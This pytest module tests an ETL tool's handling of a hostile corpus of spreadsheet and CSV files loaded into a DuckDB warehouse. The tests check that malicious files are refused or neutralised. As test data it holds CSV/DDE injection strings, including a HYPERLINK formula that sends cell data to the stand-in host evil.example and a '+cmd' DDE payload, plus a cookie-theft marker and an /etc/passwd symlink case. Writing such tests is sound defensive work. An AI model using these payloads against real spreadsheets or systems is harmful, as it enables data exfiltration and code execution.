"""The hostile corpus (tests/hostile_corpus.py) through one real `python -m etl ingest --json` run into a
warehouse that holds reference data only: the process ends normally, every file gets its expected
outcome and message, refused files change no data, accepted ones load whole, and reading each file in
the reader's child process leaves the calling process standing."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

from etl import readers, sandbox
from etl.readers import ReadError
from tests import hostile_corpus as corpus_module
from tests.conftest import (
    PROJECT_DIR_FOR_TESTS,
    framework_rows,
    ingest,
    query,
    units_rows,
    write_csv,
)
from tests.hostile_corpus import CASES, LOADED, OFFICER_HEADER, OFFICER_ROWS, SHOPPING_HEADER, Built, Case
from warehouse.db import connect, files_dir

RULE_HEADER = ["Quy tắc", "Tham số", "Giá trị", "Nhóm", "Hiệu lực từ", "Hiệu lực đến", "Căn cứ", "Diễn giải"]
# What a spreadsheet would run if a value started with it (CSV/DDE injection).
FORMULA_STARTS = ("=", "+", "-", "@")
# Well above a normal run (~20 s on a shared machine): a hang must fail the test, not block it.
CLI_TIMEOUT_SECONDS = 300


@dataclass(frozen=True)
class Run:
    """The corpus run: its exit status, its JSON reports by case name, and the warehouse around it."""

    returncode: int
    stderr: str
    reports: dict[str, dict]
    order: list[str]
    before: dict[str, list[str]]
    after: dict[str, list[str]]
    accepted: dict[str, str]  # case name -> sha256 of the file
    database: Path


@pytest.fixture(scope="module")
def limits_env(tmp_path_factory: pytest.TempPathFactory):
    """PYTHONPATH with the corpus's lowered limits, for the CLI and for this process's reader worker."""
    hook = corpus_module.write_limits_hook(tmp_path_factory.mktemp("limits"))
    inherited = os.environ.get("PYTHONPATH", "")
    path = os.pathsep.join(p for p in (str(hook), str(PROJECT_DIR_FOR_TESTS), inherited) if p)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PYTHONPATH", path)
        for name, value in corpus_module.LIMITS.items():
            patch.setattr(readers, name, value)
        sandbox.shutdown()  # the next read starts a worker that has the limits
        yield path
        sandbox.shutdown()


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Built]:
    return {item.case.name: item for item in corpus_module.build_corpus(tmp_path_factory.mktemp("corpus"))}


@pytest.fixture(scope="module")
def reference_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Units, officers, a framework and the rule set: what the accepted files need, and data to keep."""
    folder = tmp_path_factory.mktemp("reference")
    database = folder / "wh" / "hostile.duckdb"
    rules = [
        RULE_HEADER,
        ["classification_band", "xuat_sac", "90", "", "01/01/2019", "", "", ""],
        ["classification_band", "tot", "80", "", "01/01/2019", "", "", ""],
        ["classification_band", "kha", "70", "", "01/01/2019", "", "", ""],
        ["classification_band", "trung_binh", "50", "", "01/01/2019", "", "", ""],
        ["evidence_rule", "required", "1", "", "01/01/2019", "", "", ""],
    ]
    loads = [
        (write_csv(folder / "units.csv", units_rows()), {}),
        (write_csv(folder / "officers.csv", [OFFICER_HEADER, *OFFICER_ROWS]), {}),
        (
            write_csv(folder / "fw.csv", framework_rows()),
            {"kind": "framework", "framework_id": "T-XA-2021", "unit_group": "xa", "from_year": 2021},
        ),
        (write_csv(folder / "rules.csv", rules), {}),
    ]
    for path, options in loads:
        report = ingest(path, database, **options)
        assert report.status == "loaded", [f.message for f in report.findings]
    return database


def data_state(database: Path, exclude: list[str]) -> dict[str, list[str]]:
    """Every row of every raw_ and stg_ relation and of the load log, leaving out the rows of the
    files in `exclude` (the accepted ones): what a refused file must not change."""
    con = connect(database, read_only=True)
    try:
        relations = con.execute(
            "select table_name from information_schema.tables"
            " where table_name like 'raw\\_%' escape '\\' or table_name like 'stg\\_%' escape '\\'"
            " or table_name in ('source_file', 'load_attempt', 'load_finding') order by 1"
        ).fetchall()
        state = {}
        for (name,) in relations:
            columns = {c for (c,) in con.execute(f"select column_name from (describe {name})").fetchall()}
            sql = f"select * from {name}"  # names come from the catalogue, not from input
            params: list[object] = []
            if "file_sha256" in columns and exclude:
                sql += " where file_sha256 not in (select unnest(?))"
                params = [exclude]
            state[name] = sorted(map(repr, con.execute(sql, params).fetchall()))
        return state
    finally:
        con.close()


@pytest.fixture(scope="module")
def run(built: dict[str, Built], reference_db: Path, limits_env: str) -> Run:
    accepted = {
        name: hashlib.sha256(item.path.read_bytes()).hexdigest()
        for name, item in built.items()
        if item.case.status == LOADED
    }
    before = data_state(reference_db, list(accepted.values()))
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "etl",
            "ingest",
            *(str(item.path) for item in built.values()),
            "--db",
            str(reference_db),
            "--json",
        ],
        capture_output=True,
        text=True,
        cwd=PROJECT_DIR_FOR_TESTS,
        env={**os.environ, "PYTHONPATH": limits_env},
        timeout=CLI_TIMEOUT_SECONDS,
        check=False,
    )
    by_path = {str(item.path): name for name, item in built.items()}
    reports, order = {}, []
    for line in result.stdout.splitlines():
        report = json.loads(line)
        name = by_path[report["file"]]
        reports[name] = report
        order.append(name)
    after = data_state(reference_db, list(accepted.values()))
    return Run(result.returncode, result.stderr, reports, order, before, after, accepted, reference_db)


def _case(name: str, built: dict[str, Built]) -> Case:
    return built[name].case


# --- The command line ---------------------------------------------------------------------------
def test_the_corpus_is_large_enough() -> None:
    assert len(CASES) >= 30
    assert len({c.name for c in CASES}) == len(CASES)


def test_one_run_ends_normally_with_a_report_per_file(run: Run, built: dict[str, Built]) -> None:
    # 1 = some file was refused; a crash would be a traceback with 1 too, or a signal (negative).
    assert run.returncode == 1, run.stderr[-3000:]
    assert "Traceback" not in run.stderr, run.stderr[-3000:]
    assert run.order == list(built), "one JSON line per file, in the order given"


@pytest.mark.parametrize("name", [c.name for c in CASES])
def test_each_file_gets_its_outcome_and_message(name: str, run: Run, built: dict[str, Built]) -> None:
    case = _case(name, built)
    report = run.reports[name]
    errors = [f for f in report["findings"] if f["severity"] == "error"]
    assert report["status"] == case.status, [f["message"] for f in report["findings"]]
    if case.status == LOADED:
        assert not errors
        assert (report["rows_loaded"], report["rows_rejected"]) == (case.loaded, case.rejected_rows)
        return
    assert case.rule in [f["rule"] for f in errors], [f["message"] for f in errors]
    finding = next(f for f in errors if f["rule"] == case.rule)
    assert case.phrase in finding["message"]
    for error in errors:
        assert error["message"].startswith(f"Tệp {case.display_name}:"), error["message"]
        assert "Cách sửa:" in error["message"]


def test_no_message_starts_with_a_formula(run: Run) -> None:
    messages = [f["message"] for report in run.reports.values() for f in report["findings"]]
    messages += [m for (m,) in query(run.database, "select message from load_finding")]
    messages += [m for (m,) in query(run.database, "select message from raw_rejected_row")]
    assert messages
    assert not [m for m in messages if m.lstrip().startswith(FORMULA_STARTS)]


# --- The warehouse ------------------------------------------------------------------------------
def test_refused_files_change_no_data(run: Run) -> None:
    before, after = run.before, run.after
    assert before["raw_unit"] and before["raw_officer"] and before["raw_criterion"] and before["raw_rule"]
    for name, rows in before.items():
        if name in ("load_attempt", "load_finding"):
            # The load log only grows: one attempt per corpus file.
            assert set(rows) <= set(after[name]), name
        else:
            assert after[name] == rows, name
    attempts = query(run.database, "select count(*) from load_attempt")[0][0]
    assert attempts == len(before["load_attempt"]) + len(run.reports)


def test_accepted_files_load_whole(run: Run) -> None:
    assert run.accepted, "the corpus holds files that are valid once their trap is defused"
    cases = {c.name: c for c in CASES}
    for name, sha in run.accepted.items():
        case = cases[name]
        assert query(run.database, "select count(*) from raw_feedback where file_sha256 = ?", sha) == [
            (case.loaded,)
        ], name
        assert query(run.database, "select count(*) from raw_rejected_row where file_sha256 = ?", sha) == [
            (case.rejected_rows,)
        ], name
        ((file_name, stored),) = query(
            run.database, "select file_name, stored_path from source_file where file_sha256 = ?", sha
        )
        assert file_name == case.display_name
        # The copy is named by its checksum, inside the store, whatever the file was called.
        assert ".." not in stored and (files_dir(run.database) / stored).resolve().is_relative_to(
            files_dir(run.database).resolve()
        )


def test_formula_cells_land_as_plain_text(run: Run) -> None:
    sha = run.accepted["40_cong_thuc_chen.csv"]
    comments = {
        c
        for (c,) in query(run.database, "select comment_text from raw_feedback where file_sha256 = ?", sha)
        if c
    }
    assert comments == {
        '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")',
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3",
    }
    assert query(run.database, "select dossier_code from raw_feedback where dossier_code like '=%'") == [
        ("=1+1",)
    ]
    ((rule, raw_text),) = query(
        run.database, "select rule, raw_text from raw_rejected_row where file_sha256 = ?", sha
    )
    assert rule == "feedback.row.level_unreadable" and "=HYPERLINK" in raw_text


def test_scripts_and_system_files_leave_no_trace(run: Run) -> None:
    text = "\n".join(
        str(row)
        for table in ("raw_feedback", "raw_rejected_row", "load_finding")
        for row in query(run.database, f"select * from {table}")  # fixed table names
    )
    assert "evil.example/?c=" not in text and "document.cookie" not in text
    assert "root:" not in text


def test_a_symbolic_link_is_not_copied_into_the_store(run: Run, built: dict[str, Built]) -> None:
    _case("41_lien_ket_passwd.csv", built)
    target = Path("/etc/passwd").read_bytes()
    stored = [path for path in files_dir(run.database).rglob("*") if path.is_file()]
    assert all(path.read_bytes() != target for path in stored)


# --- The calling process survives every file ----------------------------------------------------
@pytest.mark.parametrize("name", [c.name for c in CASES])
def test_reading_in_the_child_process_leaves_the_caller_standing(
    name: str, built: dict[str, Built], limits_env: str
) -> None:
    case = _case(name, built)
    path = built[name].path
    if case.rule and case.rule.startswith("read."):
        with pytest.raises(ReadError) as info:
            readers.read_workbook(path, isolated=True)
        assert info.value.rule == case.rule
        assert case.phrase in info.value.message
        assert info.value.message.startswith(f"Tệp {case.display_name}:")
        cells = info.value.message
    else:
        workbook = readers.read_workbook(path, isolated=True)
        cells = "\n".join(str(v) for sheet in workbook.sheets for row in sheet.rows for v in row if v)
        if case.cell:
            assert case.cell in cells
    if case.absent:
        assert case.absent not in cells
    # The worker may have died on that file: the next read works, in a fresh one if need be.
    after = readers.read_workbook(built["30_danh_sach_mua_sam.xlsx"].path, isolated=True)
    assert after.sheets[0].rows[0] == SHOPPING_HEADER
